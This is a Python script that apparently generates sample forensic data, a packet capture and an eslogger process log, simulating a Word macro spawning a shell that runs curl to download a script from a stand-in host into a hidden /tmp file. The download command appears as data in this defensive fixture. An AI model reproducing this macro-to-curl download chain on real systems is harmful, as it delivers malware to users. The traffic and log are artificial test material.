"""Makes document.pcapng.gz and document.eslogger.jsonl: one Mac, its packets and its processes.

    python3 make_document.py [FOLDER]

A document is opened in Word; its macro runs a shell, the shell runs curl, which asks for a name and fetches a script in
clear. Safari fetches a page meanwhile. The capture names processes as Apple's tcpdump does (process blocks, and options
of packets that point to them: pids and short names); the log is what `eslogger exec fork exit` prints, with the fields
that are read and some that are not. Times of both agree, as on a Mac they do.
"""

import gzip
import json
import pathlib
import struct
import sys
import time

from wire import ACK, FIN, PSH, SYN, block, ethernet, interface_description, ipv4, option, section_header, tcp, udp

START = 1718270400  # 2024-06-13 09:20 UTC
MAC, RESOLVER, BAD, PAGE = "192.168.7.23", "192.168.7.1", "198.51.100.204", "203.0.113.80"
IN, OUT = 1, 2

LAUNCHD, RESPONDER, SAFARI, WORD, SHELL, CURL = 1, 310, 655, 700, 811, 812
WORD_PATH = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
SAFARI_PATH = "/Applications/Safari.app/Contents/MacOS/Safari"


class Capture:
    """A pcapng with a block for each process, before the first packet that names it."""

    def __init__(self):
        self.packets = []

    def add(self, at, frame, direction, pid, effective=None):
        self.packets.append((round((START + at) * 1e6), frame, direction, pid, effective))

    def write(self, path, names):
        blocks = {}
        with open(path, "wb") as raw, gzip.GzipFile("", "wb", 9, raw, mtime=0) as out:
            out.write(section_header("lunette sample: a document runs curl"))
            out.write(interface_description("en0"))
            for micros, frame, direction, pid, effective in sorted(self.packets, key=lambda packet: packet[0]):
                for who in (pid, effective):
                    if who is None or who in blocks:
                        continue
                    blocks[who] = len(blocks)
                    out.write(block(0x80000001, struct.pack("<I", who) + option(2, names[who][:16].encode()) + option(0, b"")))
                options = option(0x8001, struct.pack("<I", blocks[pid]))
                if effective is not None:
                    options += option(0x8003, struct.pack("<I", blocks[effective]))
                options += option(2, struct.pack("<I", direction)) + option(0, b"")
                head = struct.pack("<IIIII", 0, micros >> 32, micros & 0xFFFFFFFF, len(frame), len(frame))
                out.write(block(6, head + frame + bytes(-len(frame) % 4) + options))


def framed(source, payload_of):
    here, there = "02:00:00:00:00:17", "02:00:00:00:00:01"
    return ethernet(here, there, payload_of) if source == MAC else ethernet(there, here, payload_of)


def ask(capture, at, name, answer, port, pid):
    """mDNSResponder asks, on behalf of `pid`."""
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split(".")) + b"\0"
    question = labels + struct.pack(">HH", 1, 1)
    query = struct.pack(">HHHHHH", port, 0x0100, 1, 0, 0, 0) + question
    reply = struct.pack(">HHHHHH", port, 0x8180, 1, 1, 0, 0) + question + struct.pack(
        ">HHHIH", 0xC00C, 1, 1, 300, 4) + bytes(int(part) for part in answer.split("."))
    capture.add(at, framed(MAC, ipv4(MAC, RESOLVER, 17, udp(MAC, RESOLVER, port, 53, query))), OUT, RESPONDER, pid)
    capture.add(at + 0.018, framed(RESOLVER, ipv4(RESOLVER, MAC, 17, udp(RESOLVER, MAC, 53, port, reply))), IN, RESPONDER, pid)


def fetch(capture, at, server, port, pid, request, answer):
    """A whole HTTP exchange; returns when it was over."""
    seqs = {MAC: 1000, server: 9000}

    def say(step, source, flags, payload=b""):
        target = server if source == MAC else MAC
        ports = (port, 80) if source == MAC else (80, port)
        segment = tcp(source, target, *ports, seqs[source], seqs[target] if flags & ACK else 0, flags, 65535, b"", payload)
        seqs[source] += len(payload) + bool(flags & (SYN | FIN))
        capture.add(at + step, framed(source, ipv4(source, target, 6, segment)), OUT if source == MAC else IN, pid)

    say(0.0, MAC, SYN)
    say(0.02, server, SYN | ACK)
    say(0.0201, MAC, ACK)
    say(0.0203, MAC, PSH | ACK, request)
    say(0.06, server, PSH | ACK, answer)
    say(0.061, MAC, FIN | ACK)
    say(0.08, server, FIN | ACK)
    say(0.0801, MAC, ACK)
    return at + 0.0801


def http(host, path, agent, kind, body):
    request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n".encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    return request, head.encode() + body


class Log:
    """What eslogger prints: message version 9, where an audit token is an object."""

    def __init__(self):
        self.lines = []

    def process(self, pid, version, path, parent, responsible, signing, team=None, born=0.0):
        def token(of, its_version):
            return {"auid": 501, "euid": 501, "egid": 20, "ruid": 501, "rgid": 20, "pid": of, "asid": 100003, "pidversion": its_version}
        return {"audit_token": token(pid, version), "parent_audit_token": token(parent, 0), "responsible_audit_token": token(responsible, 0),
                "ppid": parent, "original_ppid": parent, "group_id": pid, "session_id": 1, "executable": {"path": path, "path_truncated": False},
                "signing_id": signing, "team_id": team, "cdhash": (signing.encode().hex().upper() + "0" * 40)[:40],
                "codesigning_flags": 570522369, "is_platform_binary": team is None, "is_es_client": False,
                "start_time": round((START + born) * 1e6), "tty": None}

    def say(self, at, number, name, process, event):
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(START + int(at))) + ".%09dZ" % round(at % 1 * 1e9)
        line = {"schema_version": 1, "version": 9, "time": stamp, "mach_time": round(at * 24e6), "event_type": number,
                "seq_num": len(self.lines), "global_seq_num": len(self.lines), "action_type": 1,
                "action": {"result": {"result_type": 0, "result": {"auth": 0}}}, "process": process, "thread": None, "event": {name: event}}
        self.lines.append(json.dumps(line, separators=(",", ":")).replace("/", "\\/"))

    def exec(self, at, before, after, arguments, cwd="/Users/anna"):
        self.say(at, 9, "exec", before, {"target": after, "args": arguments, "env": ["HOME=/Users/anna", "SHELL=/bin/zsh"],
                                         "cwd": {"path": cwd, "path_truncated": False}, "script": None, "last_fd": 2, "fds": []})

    def fork(self, at, parent, child):
        self.say(at, 11, "fork", parent, {"child": child})

    def exit(self, at, process, status=0):
        self.say(at, 15, "exit", process, {"stat": status})

    def write(self, path):
        path.write_text("".join(line + "\n" for line in self.lines), encoding="utf-8")


def main(folder):
    capture, log = Capture(), Log()
    make = log.process
    xpcproxy = "/usr/libexec/xpcproxy"
    word = make(WORD, 1801, WORD_PATH, LAUNCHD, WORD, "com.microsoft.Word", "UBF8T346G9", 1.0)
    safari = make(SAFARI, 1702, SAFARI_PATH, LAUNCHD, SAFARI, "com.apple.Safari", born=0.2)
    log.exec(0.2, make(SAFARI, 1701, xpcproxy, LAUNCHD, SAFARI, "com.apple.xpcproxy", born=0.2), safari, [SAFARI_PATH])
    log.exec(1.0, make(WORD, 1800, xpcproxy, LAUNCHD, WORD, "com.apple.xpcproxy", born=1.0), word, [WORD_PATH])
    child = make(SHELL, 1900, WORD_PATH, WORD, WORD, "com.microsoft.Word", "UBF8T346G9", 4.0)
    log.fork(4.0, word, child)
    shell = make(SHELL, 1901, "/bin/sh", WORD, WORD, "com.apple.sh", born=4.0)
    command = "curl -s http://updates.sample.example/install.sh -o /tmp/.i"
    log.exec(4.002, child, shell, ["sh", "-c", command])
    second = make(CURL, 1910, "/bin/sh", SHELL, WORD, "com.apple.sh", born=4.01)
    log.fork(4.01, shell, second)
    curl = make(CURL, 1911, "/usr/bin/curl", SHELL, WORD, "com.apple.curl", born=4.01)
    log.exec(4.012, second, curl, command.split())

    ask(capture, 0.5, "www.sample.example", PAGE, 50011, SAFARI)
    fetch(capture, 0.53, PAGE, 50101, SAFARI, *http("www.sample.example", "/", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)",
                                                    "text/html", b"<html><body>a page</body></html>\n"))
    ask(capture, 4.05, "updates.sample.example", BAD, 50012, CURL)
    over = fetch(capture, 4.08, BAD, 50102, CURL, *http("updates.sample.example", "/install.sh", "curl/8.6.0", "text/x-sh",
                                                        b"#!/bin/sh\necho sample\n"))
    log.exit(over + 0.004, curl)
    log.exit(over + 0.006, shell)
    log.exit(9.5, safari, 15)
    capture.write(folder / "document.pcapng.gz", {RESPONDER: "mDNSResponder", SAFARI: "Safari", CURL: "curl"})
    log.write(folder / "document.eslogger.jsonl")


if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else pathlib.Path(__file__).parent))
